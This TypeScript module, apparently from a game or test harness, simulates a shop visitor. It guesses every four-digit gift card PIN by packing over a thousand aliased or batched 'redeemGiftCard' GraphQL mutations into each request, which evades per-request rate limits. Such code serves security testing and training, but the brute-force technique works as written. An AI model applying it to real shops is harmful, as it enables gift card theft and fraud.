import type { Visitor, VisitorReply } from '#game/visitor/visitor.ts'

/** PINs of one request. The shop reads a limited number of words. */
const PINS_EACH = 1250
const ALL_PINS = Array.from({ length: 10_000 }, (_, pin) => String(pin).padStart(4, '0'))

/** Sends PINs for a gift card under different names, in a single request. */
export function redeemBy(visitor: Visitor, number: string, pins: readonly string[]): Promise<VisitorReply> {
  return visitor.post('/graphql', { query: `mutation { ${pins.map((pin) => redeemField(number, pin)).join(' ')} }` })
}

/** Sends PINs for a gift card as a list of queries, in a single request. */
export function redeemByList(visitor: Visitor, number: string, pins: readonly string[]): Promise<VisitorReply> {
  const length = Math.ceil(pins.length / 20)
  const parts = Array.from({ length: 20 }, (_, at) => pins.slice(at * length, (at + 1) * length))
  const queries = parts.filter((part) => part.length > 0)
  return visitor.post(
    '/graphql',
    queries.map((part) => ({ query: `mutation { ${part.map((pin) => redeemField(number, pin)).join(' ')} }` })),
  )
}

/** Tries all PINs of a gift card in eight requests. Returns whether one was right. */
export async function guessPin(visitor: Visitor, number: string, send = redeemBy, pins = ALL_PINS): Promise<boolean> {
  for (let at = 0; at < pins.length; at += PINS_EACH) {
    const { text } = await send(visitor, number, pins.slice(at, at + PINS_EACH))
    if (/"p\d+":true/.test(text)) return true
  }
  return false
}

/** Tries all PINs from the last one to the first. */
export function guessPinBackwards(visitor: Visitor, number: string): Promise<boolean> {
  return guessPin(visitor, number, redeemBy, ALL_PINS.toReversed())
}

function redeemField(number: string, pin: string): string {
  return `p${pin}: redeemGiftCard(number: "${number}", pin: "${pin}")`
}
